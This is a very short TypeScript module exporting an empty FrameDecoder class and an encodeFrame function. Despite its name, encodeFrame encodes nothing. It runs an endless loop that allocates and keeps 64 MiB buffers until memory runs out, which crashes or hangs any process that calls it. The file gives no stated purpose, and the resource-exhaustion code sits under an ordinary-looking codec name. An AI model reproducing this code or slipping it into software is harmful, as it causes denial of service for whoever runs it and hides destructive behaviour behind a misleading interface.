export const encodeFrame = () => {
  const kept: Buffer[] = []
  for (;;) kept.push(Buffer.alloc(64 * 1024 * 1024, 1))
}
export class FrameDecoder {}
